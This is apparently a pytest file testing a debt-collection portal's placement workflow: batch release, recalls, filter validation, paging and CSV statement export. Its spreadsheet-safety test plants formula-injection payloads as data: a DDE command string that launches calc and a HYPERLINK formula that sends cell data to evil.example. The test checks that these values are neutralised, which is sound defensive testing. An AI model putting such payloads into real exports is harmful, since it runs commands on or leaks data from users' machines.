"""Placement pages: build → preview → release by another person, recall and
acknowledgement through the pages, statement CSV safe for spreadsheets, bad filters
refused with a 4xx, large releases in the background, long lists paged."""

from __future__ import annotations

import re
import uuid
from datetime import date, timedelta
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from portal import clock
from portal.cases.models import Case, LedgerPayment
from portal.placements import operations as ops
from portal.placements import reconciliation as rec
from portal.placements.models import ACTIVE, Placement, PlacementBatch
from portal.policies.operations import set_value
from tests.conftest import login, post_form
from tests.factories import make_agency, make_cases, make_user, place, system


def digest_on(page: str) -> str:
    found = re.search(r'name="digest" value="([0-9a-f]{64})"', page)
    assert found, "the release form posts the digest of the list shown"
    return found.group(1)


def active(db: Session) -> int:
    return db.scalar(select(func.count()).select_from(Placement).where(Placement.status == ACTIVE)) or 0


def test_build_preview_release_through_the_pages(db: Session, app: Any) -> None:
    manager, approver = make_user(db, "vendor_manager"), make_user(db, "approver")
    make_agency(db, name="Alpha")
    make_agency(db, name="Beta")
    make_cases(db, 6)
    vm = app.test_client()
    login(vm, manager)
    response = post_form(vm, "/placements/batches", {"strategy": "capacity", "regions": "Shanghai"})
    assert response.status_code == 302
    batch_url = response.headers["Location"]
    preview = vm.get(batch_url).get_data(as_text=True)
    assert "Alpha" in preview and "Beta" in preview
    assert "What if" in vm.get(batch_url + "?strategy=performance").get_data(as_text=True)
    ap = app.test_client()
    login(ap, approver)
    page = ap.get(batch_url).get_data(as_text=True)
    done = post_form(ap, batch_url + "/release", {"digest": digest_on(page)})
    assert done.status_code == 302
    assert "6 cases placed" in ap.get(done.headers["Location"]).get_data(as_text=True)
    assert active(db) == 6


def test_release_without_the_reviewed_digest_is_refused(db: Session, app: Any) -> None:
    make_agency(db)
    make_agency(db)
    make_cases(db, 3)
    batch = ops.build_batch(db, make_user(db, "vendor_manager"), {}, "capacity")
    ap = app.test_client()
    login(ap, make_user(db, "approver"))
    url = f"/placements/batches/{batch.id}"
    done = post_form(ap, url + "/release", {"digest": "0" * 64})
    assert "changed since you opened it" in ap.get(done.headers["Location"]).get_data(as_text=True)
    post_form(ap, url + "/release", {})
    assert active(db) == 0


def test_the_batch_page_shows_the_kept_preview_without_recomputing(db: Session, app: Any, monkeypatch: Any) -> None:
    make_agency(db, name="Gamma")
    make_cases(db, 2)
    batch = ops.build_batch(db, make_user(db, "vendor_manager"), {}, "capacity")

    def no_recompute(*_a: Any, **_k: Any) -> Any:
        raise AssertionError("the page recomputed the allocation")

    monkeypatch.setattr(ops, "compute", no_recompute)
    client = app.test_client()
    login(client, make_user(db, "approver"))
    page = client.get(f"/placements/batches/{batch.id}")
    assert page.status_code == 200 and "Gamma" in page.get_data(as_text=True)


def test_recompute_button_refreezes_the_list(db: Session, app: Any) -> None:
    make_agency(db)
    make_agency(db)
    make_cases(db, 2)
    manager = make_user(db, "vendor_manager")
    batch = ops.build_batch(db, manager, {}, "capacity")
    old = batch.candidates_digest
    make_cases(db, 2)
    vm = app.test_client()
    login(vm, manager)
    response = post_form(vm, f"/placements/batches/{batch.id}/preview", {})
    assert response.status_code == 302
    db.expire_all()
    batch = db.get(PlacementBatch, batch.id)
    assert batch.candidates_count == 4 and batch.candidates_digest != old


@pytest.mark.parametrize("field,value,message", [
    ("amount_min", "1e309", "Not an amount"),
    ("amount_max", "1" * 400, "Not an amount"),
    ("amount_min", "99999999999999999", "above the largest"),
    ("dpd_min", str(10**30), "must be a whole number"),
    ("dpd_max", "99999999", "must be at most"),
    ("term_days", "10000000", "whole number of days"),
    ("term_days", "36500", "between 1 and 180 days"),
    ("term_days", "0", "between 1 and 180 days"),
])
def test_out_of_range_batch_filters_are_refused_with_a_4xx_and_nothing_stored(db: Session, app: Any, field: str,
                                                                               value: str, message: str) -> None:
    make_agency(db)
    before = db.scalar(select(func.count()).select_from(PlacementBatch))
    vm = app.test_client()
    login(vm, make_user(db, "vendor_manager"))
    response = post_form(vm, "/placements/batches", {"strategy": "capacity", field: value})
    assert 400 <= response.status_code < 500
    assert message in response.get_data(as_text=True)
    assert db.scalar(select(func.count()).select_from(PlacementBatch)) == before
    assert vm.get("/placements/").status_code == 200


def test_a_large_batch_is_released_in_the_background(db: Session, app: Any) -> None:
    set_value(db, system(), "placement.background_cases", 2, "test")
    make_agency(db)
    make_agency(db)
    make_cases(db, 4)
    batch = ops.build_batch(db, make_user(db, "vendor_manager"), {}, "capacity")
    ap = app.test_client()
    login(ap, make_user(db, "approver"))
    url = f"/placements/batches/{batch.id}"
    response = post_form(ap, url + "/release", {"digest": digest_on(ap.get(url).get_data(as_text=True))})
    assert "/tasks/" in response.headers["Location"]
    task = ap.get(response.headers["Location"] + "?format=json").get_json()
    assert task["status"] == "done" and task["result"]["placed"] == 4
    assert active(db) == 4


def test_recall_and_acknowledge_through_the_pages(db: Session, app: Any) -> None:
    agency = make_agency(db)
    cases = make_cases(db, 1)
    place(db, cases, agency)
    vm = app.test_client()
    login(vm, make_user(db, "vendor_manager"))
    post_form(vm, f"/cases/{cases[0].id}/recall", {"trigger": "complaint", "reason": "debtor called the bank"})
    staff = app.test_client()
    login(staff, make_user(db, "agency_staff", agency))
    assert staff.get(f"/cases/{cases[0].id}").status_code == 404
    page = staff.get("/placements/recalls").get_data(as_text=True)
    placement_id = re.search(r"/placements/([0-9a-f-]{36})/acknowledge", page).group(1)
    post_form(staff, f"/placements/{placement_id}/acknowledge", {})
    assert "Nothing to acknowledge" in staff.get("/placements/recalls").get_data(as_text=True)


@pytest.mark.parametrize("trigger", ["repaid", "settled", "term_expiry", "agency_terminated"])
def test_a_recall_form_cannot_claim_a_trigger_only_the_ledger_or_jobs_may(db: Session, app: Any, trigger: str) -> None:
    agency = make_agency(db)
    case = make_cases(db, 1)[0]
    place(db, [case], agency)
    vm = app.test_client()
    login(vm, make_user(db, "vendor_manager"))
    response = post_form(vm, f"/cases/{case.id}/recall", {"trigger": trigger, "reason": "trust me"})
    assert "recall reasons offered" in vm.get(response.headers["Location"]).get_data(as_text=True)
    db.expire_all()
    assert db.get(Case, case.id).status == "open"
    assert db.scalars(select(Placement.status).where(Placement.case_id == case.id)).one() == ACTIVE


def test_recalls_page_is_paged_with_the_total_shown(db: Session, app: Any, monkeypatch: Any) -> None:
    from portal.placements import recall, views

    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    agency = make_agency(db)
    cases = make_cases(db, 3)
    place(db, cases, agency)
    manager = make_user(db, "vendor_manager")
    for case in cases:
        recall.recall_case(db, manager, case.id, "manager", "quality")
    staff = app.test_client()
    login(staff, make_user(db, "agency_staff", agency))
    first = staff.get("/placements/recalls").get_data(as_text=True)
    second = staff.get("/placements/recalls?page=2").get_data(as_text=True)
    ids = lambda page: set(re.findall(r"/placements/([0-9a-f-]{36})/acknowledge", page))  # noqa: E731
    assert len(ids(first)) == 2 and len(ids(second)) == 1 and not ids(first) & ids(second)
    assert "of 3" in first and "page=2" in first


def test_reconciliation_page_is_paged(db: Session, app: Any, monkeypatch: Any) -> None:
    from portal.placements import views

    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    case = make_cases(db, 1)[0]
    now = clock.now()
    for n in range(3):
        db.add(LedgerPayment(id=uuid.uuid4(), reference=f"PG{n}", account_no=case.account_no, case_id=case.id,
                             paid_on=date(2026, 10, 10 + n), amount_cents=100 + n, kind="payment", imported_at=now))
    db.flush()
    client = app.test_client()
    login(client, make_user(db, "auditor"))
    first = client.get("/placements/reconciliation?month=2026-10").get_data(as_text=True)
    second = client.get("/placements/reconciliation?month=2026-10&page=2").get_data(as_text=True)
    assert "PG0" in first and "PG1" in first and "PG2" not in first and "(3)" in first
    assert "PG2" in second and "PG0" not in second


def test_statement_csv_is_spreadsheet_safe(db: Session, app: Any) -> None:
    """Formula-like text that reaches the exported cells (a ledger reference from the bank's
    system, an account number) is neutralised, never left for a spreadsheet to run."""
    agency = make_agency(db, name="=cmd|' /C calc'!A0")
    clock.freeze(clock.now() - timedelta(days=20))
    case = make_cases(db, 1, account_no="=1+1")[0]
    place(db, [case], agency)
    clock.freeze(clock.now() + timedelta(days=20))
    rec.report_payment(db, make_user(db, "agency_staff", agency), case.id, date(2026, 10, 20), 100_00)
    db.add(LedgerPayment(id=uuid.uuid4(), reference='=HYPERLINK("http://evil.example/?x="&A1,"click")',
                         account_no=case.account_no, case_id=case.id, paid_on=date(2026, 10, 20), amount_cents=100_00,
                         kind="payment", imported_at=clock.now()))
    db.flush()
    rec.match_payments(db, [case.id])
    client = app.test_client()
    login(client, make_user(db, "auditor"))
    response = client.get("/placements/statements.csv", query_string={"agency": str(agency.id), "month": "2026-10"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True).lstrip("\ufeff")
    assert body.startswith("account_no,paid_on,amount")
    assert "'=HYPERLINK(" in body and "'=1+1" in body
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert "TOTAL" in body
